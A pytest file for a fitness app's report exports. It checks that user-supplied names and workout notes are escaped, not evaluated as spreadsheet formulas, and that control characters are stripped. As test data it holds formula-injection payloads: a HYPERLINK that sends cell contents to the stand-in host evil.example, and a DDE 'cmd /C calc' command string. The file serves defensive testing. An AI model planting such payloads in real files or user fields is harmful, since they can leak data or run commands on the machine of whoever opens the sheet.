"""Report files never turn user text into a live spreadsheet formula, nor fail on control characters."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from fitbud.reports.documents import safe_text
from tests.factories import ExerciseFactory
from tests.helpers import bearer

pytestmark = pytest.mark.usefixtures("inline_jobs")

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
TRAINER_NAME = '=HYPERLINK("https://evil.example","Coach")'
CLIENT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _download(http, user, type_, params) -> bytes:
    report = http.post("/api/v1/reports", json={"type": type_, "params": params}, headers=bearer(user)).json
    assert report["status"] == "finished", report
    return http.get(report["download_url"], headers=bearer(user)).data


@pytest.fixture
def hostile_text(http, trainer, trainer_headers, client_record, client_headers):
    """A trainer, client and workout whose user text are formulas (set through the API)."""
    assert http.patch("/api/v1/users/me", json={"name": TRAINER_NAME}, headers=trainer_headers).status_code == 200
    renamed = http.patch(f"/api/v1/clients/{client_record.id}", json={"name": CLIENT_NAME}, headers=trainer_headers)
    assert renamed.status_code == 200
    squat = ExerciseFactory()
    logged = http.post(
        "/api/v1/me/workout-logs",
        json={
            "performed_on": date.today().isoformat(),
            "exercises": [{"exercise_id": squat.id, "sets": [{"reps": 5, "weight": 100}]}],
            "notes": LINK + "\x07\x1b",
        },
        headers=client_headers,
    )
    assert logged.status_code == 201, logged.json


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("bell\x07 and escape\x1b and nul\x00", "bell and escape and nul"),
        ("line one\nline two", "line one\nline two"),
        ("a = b", "a = b"),
    ],
)
def test_safe_text_neutralises_formula_triggers_and_strips_control_characters(text, expected):
    assert safe_text(text) == expected


@pytest.mark.usefixtures("hostile_text")
def test_client_export_csv_holds_the_note_and_name_as_text(http, trainer, client_record):
    archive = zipfile.ZipFile(io.BytesIO(_download(http, trainer, "client_export", {"client_id": client_record.id})))
    (workout,) = csv.DictReader(io.StringIO(archive.read("workouts.csv").decode()))
    (profile,) = csv.DictReader(io.StringIO(archive.read("client.csv").decode()))

    assert workout["notes"] == "'" + LINK
    assert profile["name"] == "'" + CLIENT_NAME


@pytest.mark.usefixtures("hostile_text")
def test_monthly_csv_and_xlsx_hold_the_client_name_as_text(http, trainer):
    month = date.today().strftime("%Y-%m")
    text = _download(http, trainer, "trainer_monthly", {"month": month, "format": "csv"}).decode()
    (row,) = csv.DictReader(io.StringIO(text))
    sheet = load_workbook(io.BytesIO(_download(http, trainer, "trainer_monthly", {"month": month})))["Clients"]
    (cell,) = [cell for cell in sheet["B"][1:]]

    assert row["client"] == "'" + CLIENT_NAME
    assert cell.value == "'" + CLIENT_NAME and cell.data_type == "s"


@pytest.mark.usefixtures("hostile_text")
def test_platform_xlsx_holds_the_trainer_name_as_text_not_a_formula(http, admin):
    workbook = load_workbook(io.BytesIO(_download(http, admin, "platform", {"weeks": 4})))
    cells = [cell for row in workbook["Trainers"].iter_rows() for cell in row if isinstance(cell.value, str)]
    named = [cell for cell in cells if "evil.example" in cell.value]

    assert [cell.value for cell in named] == ["'" + TRAINER_NAME]
    assert all(cell.data_type == "s" for cell in cells)
